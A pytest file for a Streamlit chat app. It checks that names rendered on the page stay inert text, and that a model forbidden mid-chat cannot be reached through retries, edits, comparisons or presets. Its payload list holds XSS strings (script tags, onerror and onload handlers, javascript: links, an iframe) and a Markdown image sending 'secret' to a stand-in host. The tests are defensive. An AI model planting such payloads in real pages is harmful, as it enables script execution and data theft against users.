"""What has happened to others on their pages, tried on these: names that are HTML, and ways round what is forbidden.

Each test names the incident; the comment says what went wrong there. Others are in tests/hosting.
"""

import re
from collections.abc import Callable, Iterator
from dataclasses import replace
from typing import Any

import pytest
from google.protobuf.message import Message as Proto

from orchat import Artifact
from orchat.agent.files import ConversationFiles
from tests.ui.chat_app import OWNER, ChatApp, words
from tests.ui.test_app_answers import cut
from tests.ui.test_app_versions import edit
from tests.ui.test_markdown_safety import BROWSER, images, tokens

Start = Callable[..., ChatApp]
Way = Callable[[ChatApp], None]
MARK = "5c1f"
HOSTILE = [
    f"<img src=x onerror=alert('{MARK}')>",
    f"<script>alert('{MARK}')</script><svg onload=alert('{MARK}')>",
    f"![{MARK}](https://evil.test/?q=secret)",
    f"[{MARK}](javascript:alert(1)) <javascript:alert('{MARK}')> [x](data:text/html,<script>alert(1)</script>)",
    f'[{MARK}](https://evil.test "<img src=x>")',
    f"`{MARK}`\n\n<iframe src=//evil.test>",
]
READ_AS_MARKDOWN = {"body", "label", "help", "tooltip", "caption", "heading", "title", "text", "placeholder"}
NEVER_MARKDOWN = {"code", "text", "json", "chat_input", "text_area", "text_input"}


def drawn(value: Proto) -> Iterator[str]:
    """Every text of an element that Streamlit may read as Markdown."""
    for field, content in value.ListFields():
        for part in content if field.is_repeated else [content]:
            if isinstance(part, Proto):
                yield from drawn(part)
            elif isinstance(part, str) and field.name in READ_AS_MARKDOWN:
                yield part


def texts(app: ChatApp) -> list[str]:
    """All that is drawn on the page."""
    found = []
    for node in app.page._tree:
        proto: Any = getattr(node, "proto", None)
        if not isinstance(proto, Proto) or node.type in NEVER_MARKDOWN:
            continue
        if node.type == "html" or getattr(proto, "allow_html", False):
            # The style of the pages, which is a constant.
            assert MARK not in str(proto)
        else:
            found += drawn(proto)
    return found


def shows_as_text(app: ChatApp) -> None:
    """Expect the hostile name on the page, and nothing of it alive."""
    shown = texts(app)
    assert any(MARK in text for text in shown)
    for text in shown:
        parsed = tokens(BROWSER, text)
        assert images(text) == [], text
        assert not any(token.type.startswith("html") for token in parsed), text
        for token in parsed:
            if token.type == "link_open":
                assert re.match(r"https?://|mailto:|/|#", str(token.attrs["href"])), text
                assert "evil.test" not in str(token.attrs["href"]) or "title" not in token.attrs, text


@pytest.mark.parametrize("name", HOSTILE)
def test_cve_2025_64495_a_name_of_a_chat_a_file_a_model_or_a_tool_is_text(agent: ChatApp, name: str):
    # Open WebUI: what somebody had written was put into the page as rich text.
    app = agent
    chat = app.store.create_conversation(OWNER, kind="agent").id
    app.store.rename(OWNER, chat, name)
    files = [ConversationFiles(app.store, OWNER, chat).save(Artifact("file", name, "text/plain", b"x")).to_json()]
    said = {"role": "user", "content": name}
    details = {"said": name, "attached": files}
    asked = app.store.add_message(OWNER, chat, role="user", wire=said, parent_id=None, details=details)
    call = {"id": "1", "type": "function", "function": {"name": name, "arguments": "{}"}}
    wire = {"role": "assistant", "content": name, "reasoning": name, "tool_calls": [call]}
    step = app.store.add_message(OWNER, chat, role="assistant", wire=wire, parent_id=asked.id, state="done")
    app.store.save_message(OWNER, replace(step, model_answered=name, provider=name))
    made = {"title": name, "icon": "🔧", "arguments": {name: name}, "status": "error", "artifacts": files}
    wire = {"role": "tool", "tool_call_id": "1", "name": name, "content": name}
    above = app.store.add_message(OWNER, chat, role="tool", wire=wire, parent_id=step.id, state="done", details=made)
    last = app.store.add_message(
        OWNER, chat, role="assistant", wire={"content": name}, parent_id=above.id, state="done"
    )
    app.store.save_message(OWNER, replace(last, model_answered=name, provider=name))
    shows_as_text(app.open(chat=chat, page="pages/agent.py"))
    other = app.store.create_conversation(OWNER, settings={"model": name, "auto": False}).id
    app.store.create_preset(OWNER, name, {"system_prompt": name, "model": name})
    app.store.set_tags(OWNER, other, [name])
    shows_as_text(app.open(chat=other))


FORBIDDEN, OTHER = "openai/gpt-4.1-nano", "mistralai/mistral-nemo"


def asked_again(app: ChatApp) -> None:
    app.press(f"retry-{app.branch[-1].id}")


def edited(app: ChatApp) -> None:
    edit(app, app.branch[0].id, "Something else")


def went_on(app: ChatApp) -> None:
    answer = app.branch[-1]
    app.press(f"continue-{answer.id}")


def said_more(app: ChatApp) -> None:
    app.page.chat_input(key="prompt").set_value("And now?")
    app.run()


def compared(app: ChatApp) -> None:
    app.store.update_settings(OWNER, app.chat, {"compared": [OTHER, FORBIDDEN]})
    said_more(app.open(chat=app.chat))


def by_a_preset(app: ChatApp) -> None:
    kept = {"model": FORBIDDEN, "auto": False, "system_prompt": "Be brief."}
    preset = app.store.create_preset(OWNER, "Brief", kept).id
    app.press("new-chat")
    app.press(f"begin-with-{preset}")
    said_more(app)


WAYS: list[Way] = [asked_again, edited, went_on, said_more, compared, by_a_preset]


@pytest.mark.parametrize("way", WAYS)
def test_cve_2026_44555_a_model_that_was_forbidden_meanwhile_is_reached_by_no_way(start: Start, way: Way):
    # Open WebUI: who may not use a model got at it through another one that was built on it.
    app = start(ORCHAT_DEFAULT_MODEL=FORBIDDEN, ORCHAT_TITLE_MODEL="none")
    cut(app, app.send("Hello, and go on for a while about birds"), 40, reason=None, state="stopped")
    before = len(app.inferences())
    assert [body["model"] for body in app.inferences()] == [FORBIDDEN]
    app.services.live.change("ops", "forbidden_models", ["openai/*"])
    way(app)
    if (run := app.running) is not None:
        assert run.settled.wait(20)
    app.run()
    later = app.inferences()[before:]
    assert not [body for body in later if FORBIDDEN in (body["model"], *body.get("models", []))]
    said = "\n".join([words(app.page.main), *texts(app)])
    assert "forbid" in said.lower() or [body["model"] for body in later if body["model"] != FORBIDDEN]
